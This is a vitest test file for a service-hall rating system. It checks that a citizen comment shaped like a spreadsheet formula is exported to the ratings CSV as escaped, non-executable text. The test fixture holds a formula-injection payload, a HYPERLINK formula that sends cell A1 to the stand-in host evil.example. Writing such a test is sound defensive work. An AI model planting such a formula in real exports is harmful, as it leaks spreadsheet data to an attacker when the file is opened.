// A citizen's comment that looks like a spreadsheet formula reaches the rating records CSV as text.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { cmdId, startTestHub, type TestHub } from '../helpers/test-hub.js';
import { serveOne } from '../ratings/serve.js';

let t: TestHub;
const COMMENT = '=HYPERLINK("http://evil.example/?d="&A1,"点此查看进度")';

beforeAll(async () => {
  t = await startTestHub();
  const kiosk = await t.connect('demo-kiosk-1');
  const window1 = await t.connect('demo-window-01');
  const pad = await t.connect('demo-pad-01');
  const { ticket } = await serveOne(kiosk, window1, '01', 'general');
  const rated = await pad.emitWithAck('pad:rate', { cmdId: cmdId(), windowId: 'w01', ticketId: ticket.id, level: 'very-dissatisfied', reasons: ['服务态度'], text: COMMENT });
  expect(rated.ok).toBe(true);
});
afterAll(async () => {
  await t.close();
});

describe('ratings.csv', () => {
  it('writes a formula-like comment as quoted text that Excel will not run', async () => {
    const res = await fetch(`${t.hub.url}/api/reports/ratings.csv?from=2026-11-23&to=2026-11-23`, { headers: { authorization: 'Bearer demo-console-1' } });
    expect(res.status).toBe(200);
    const csv = await res.text();
    expect(csv).toContain(`,"'${COMMENT.replace(/"/g, '""')}",`);
    expect(csv).not.toMatch(/(^|,)"?=/m);
  });
});
